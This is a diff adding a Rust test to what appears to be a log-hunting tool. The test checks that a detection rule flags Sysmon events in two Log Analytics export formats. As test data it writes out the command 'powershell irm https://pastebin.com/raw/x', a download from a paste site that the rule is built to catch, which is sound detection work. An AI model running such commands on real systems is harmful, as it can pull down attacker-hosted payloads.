@@ -48,6 +48,21 @@ fn a_rule_fires_on_events_of_any_shape_and_on_rows_of_defender() {
 }
 
 #[test]
+fn a_rule_sees_the_events_of_rows_that_log_analytics_exported() {
+    let command = r#""Image":"C:\\w\\powershell.exe","CommandLine":"powershell irm https://pastebin.com/raw/x""#;
+    let fields = r#"<EventData><Data Name=\"Image\">C:\\w\\powershell.exe</Data><Data Name=\"CommandLine\">powershell irm https://pastebin.com/raw/x</Data></EventData>"#;
+    let of_sysmon = r#""TimeGenerated":"2026-03-10T09:00:00Z","Computer":"H","EventID":1"#;
+    for (table, rest) in [
+        ("Event", format!(r#""Source":"Microsoft-Windows-Sysmon","EventLog":"Microsoft-Windows-Sysmon/Operational","EventData":"{fields}""#)),
+        ("WindowsEvent", format!(r#""Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","EventData":{{{command}}}"#)),
+    ] {
+        let logs = tempfile::tempdir().expect("a folder for the test");
+        std::fs::write(logs.path().join("export.jsonl"), format!(r#"{{{of_sysmon},{rest},"Type":"{table}"}}"#)).expect("a file is written");
+        assert_eq!(hunt(POWERSHELL, &logs.path().display().to_string()).as_deref(), Ok(&["PowerShell to a paste site on H".to_owned()][..]), "{table}");
+    }
+}
+
+#[test]
 fn a_filter_silences_a_rule_and_a_correlation_counts_it() {
     let filter = "---\ntitle: Not here\nlogsource: {product: windows, category: process_creation}\nfilter:\n  rules: [paste]\n  selection:\n    User|endswith: 's.ito'\n  condition: not selection\n";
     assert_eq!(hunt(&format!("{POWERSHELL}{filter}"), "samples/").as_deref(), Ok(&[][..]));
